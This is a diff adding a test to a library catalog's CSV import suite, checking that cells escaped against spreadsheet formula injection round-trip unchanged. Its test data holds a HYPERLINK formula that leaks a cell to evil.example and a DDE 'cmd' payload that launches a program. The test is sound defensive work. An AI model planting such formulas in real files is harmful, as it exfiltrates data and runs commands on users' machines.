@@ -1,4 +1,6 @@
 """Catalog import: CSV, MARC21 (ISO 2709) and MARCXML; all records or none."""
+import csv
+import io
 import time
 from io import StringIO
 
@@ -12,6 +14,7 @@ from backend.catalog.imports import import_catalog
 from backend.catalog.models import Format, Item, Title
 from backend.catalog.selectors import title_list
 from backend.core.exceptions import ConflictError
+from backend.core.tabular import csv_row
 from tests.catalog.helpers import isbn13, make_record, marc_file, marcxml_file, thousand_records
 from tests.factories import BranchFactory, ItemFactory
 
@@ -242,6 +245,27 @@ def test_csv_imports_titles_and_copies(branches):
     master = Title.objects.get(title="Мастер и Маргарита")
     assert (master.language, master.format, master.age_rating) == ("ru", "audio", "16+")
     assert master.items.get().branch.code == "SOK"
+
+
+def test_csv_cells_quoted_against_formulas_read_back_as_written(branches):
+    # The way our exports write cells (core/tabular.py): text a spreadsheet would run as a
+    # formula gets a quote in front. The import takes it off again.
+    title = {"title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+             "authors": "@Абай", "subjects": "-поэзия; +проза", "publisher": "+1+1",
+             "annotation": "=cmd|' /C calc'!A0", "language": "kk", "year": 2015}
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow(title)
+    writer.writerow(csv_row(title.values()))
+    assert buffer.getvalue().splitlines()[1].startswith("\"'=HYPERLINK")
+
+    report = import_catalog(content=buffer.getvalue().encode(), filename="titles.csv")
+
+    assert report.ok, report.errors
+    saved = Title.objects.get()
+    assert (saved.title, saved.authors, saved.subjects, saved.publisher, saved.annotation,
+            saved.year) == (title["title"], ["@Абай"], ["-поэзия", "+проза"], "+1+1",
+                            title["annotation"], 2015)
 
 
 def test_csv_with_a_bad_row_names_the_row_and_column_and_writes_nothing(branches):
